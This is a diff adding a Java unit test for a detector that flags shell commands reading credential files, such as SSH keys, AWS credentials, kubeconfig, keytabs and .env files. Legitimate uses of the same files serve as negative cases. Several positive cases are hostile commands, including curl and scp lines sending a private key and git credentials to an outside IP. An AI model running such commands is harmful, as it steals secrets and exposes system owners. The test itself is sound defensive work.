@@ -92,4 +92,31 @@ class CapabilitiesTest {
         }
         assertThat(Behaviours.shows(Family.SOCKET_TRANSFER, s.toString(), false)).isFalse();
     }
+
+    @Test
+    void aCredentialFileReadOutByAProgramThatDoesNotUseItIsASecretRead() {
+        assertThat(shows(Family.SECRET_READ, "base32 /root/.ssh/id_rsa")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "dd if=/home/alice/.aws/credentials")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "sudo od -An -c /etc/kubernetes/admin.conf")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "column < /var/www/shop/.env")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "uniq /root/.bash_history")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "curl -F 'k=@/etc/ssl/private/site.key' https://198.51.100.9/u")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "cp /etc/krb5.keytab /dev/shm/k")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "scp /home/alice/.git-credentials x@198.51.100.9:/t/")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "ln -s /root/.pgpass /var/www/html/p.txt")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "nl /var/run/secrets/kubernetes.io/serviceaccount/token > /tmp/t")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "sh -c 'tac /etc/ssh/ssh_host_ed25519_key'")).isTrue();
+        // the same files used, guarded, edited or copied among the owner's own files
+        assertThat(shows(Family.SECRET_READ, "ssh -i /root/.ssh/id_rsa deploy@web1")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "chmod 600 /home/alice/.ssh/id_ed25519")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "sudo cp -i /etc/kubernetes/admin.conf $HOME/.kube/config")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "kubectl --kubeconfig /etc/kubernetes/admin.conf get nodes")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "openssl req -new -key /etc/ssl/private/site.key -out site.csr")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "cat /etc/ssl/certs/site.crt /etc/ssl/private/site.key > /etc/haproxy/site.pem")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "vim /var/www/shop/.env")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "cp .env.example .env")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "klist -kt /etc/krb5.keytab")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "cat ~/.ssh/id_ed25519.pub")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "tail -n 20 ~/.bash_history")).isFalse();
+    }
 }
